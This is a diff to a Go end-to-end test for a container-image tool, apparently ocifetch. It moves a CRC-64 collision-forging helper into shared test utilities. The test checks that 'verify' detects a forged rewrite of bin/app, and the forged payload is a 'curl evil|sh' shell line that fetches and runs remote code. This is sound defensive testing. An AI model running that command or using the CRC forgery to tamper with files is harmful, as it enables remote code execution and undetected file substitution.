@@ -6,8 +6,6 @@ package main
 
 import (
 	"bytes"
-	"encoding/binary"
-	"hash/crc64"
 	"net/http"
 	"os"
 	"os/exec"
@@ -26,54 +24,6 @@ import (
 	"github.com/ocifetch/ocifetch/internal/testutil/hostile"
 	"github.com/ocifetch/ocifetch/internal/testutil/testimage"
 )
-
-// forgeSameCRC returns content of orig's length that starts with want and
-// has orig's CRC-64/ISO: the 8 bytes after want are solved for (a CRC is
-// affine in the message bits).
-func forgeSameCRC(t *testing.T, orig []byte, want string) []byte {
-	t.Helper()
-	tab := crc64.MakeTable(crc64.ISO)
-	target := crc64.Checksum(orig, tab)
-	b := append(append([]byte(want), make([]byte, 8)...), orig[len(want)+8:]...)
-	at := len(want)
-	c0 := crc64.Checksum(b, tab)
-	// Column i: how flipping free bit i changes the CRC.
-	var cols [64]uint64
-	for i := range cols {
-		b[at+i/8] ^= 1 << (i % 8)
-		cols[i] = crc64.Checksum(b, tab) ^ c0
-		b[at+i/8] ^= 1 << (i % 8)
-	}
-	// Gaussian elimination over GF(2): combine columns into target^c0,
-	// tracking which free bits each combined column stands for.
-	var basis [64]struct{ v, x uint64 }
-	for i, c := range cols {
-		x := uint64(1) << i
-		for bit := 63; bit >= 0 && c != 0; bit-- {
-			if c>>bit&1 == 0 {
-				continue
-			}
-			if basis[bit].v == 0 {
-				basis[bit].v, basis[bit].x = c, x
-				break
-			}
-			c ^= basis[bit].v
-			x ^= basis[bit].x
-		}
-	}
-	need, x := target^c0, uint64(0)
-	for bit := 63; bit >= 0; bit-- {
-		if need>>bit&1 == 1 && basis[bit].v != 0 {
-			need ^= basis[bit].v
-			x ^= basis[bit].x
-		}
-	}
-	binary.LittleEndian.PutUint64(b[at:], x)
-	if need != 0 || crc64.Checksum(b, tab) != target {
-		t.Fatal("could not forge the CRC")
-	}
-	return b
-}
 
 // rewriteKeepingTimes writes content into p in place, keeping its times.
 func rewriteKeepingTimes(t *testing.T, p string, content []byte) {
@@ -117,7 +67,7 @@ func TestCLIE2EVerifyCatchesCRCForgedRewrite(t *testing.T) {
 	t.Parallel()
 	app := strings.Repeat("\x7fELF an honest program ", 64)
 	u := unpackLayers(t, layerOf(t, edir("bin", layerTime), efile("bin/app", app, 0o755)))
-	forged := forgeSameCRC(t, []byte(app), "#!/bin/sh\nexec curl evil|sh\n")
+	forged := testutil.ForgeCRC(t, []byte(app), "#!/bin/sh\nexec curl evil|sh\n")
 	rewriteKeepingTimes(t, filepath.Join(u.rootfs, "bin/app"), forged)
 	r := runBuilt(t, u.env, "verify", u.rootfs)
 	if r.code != exitVerification || r.stdout != "changed bin/app (content)\n" {
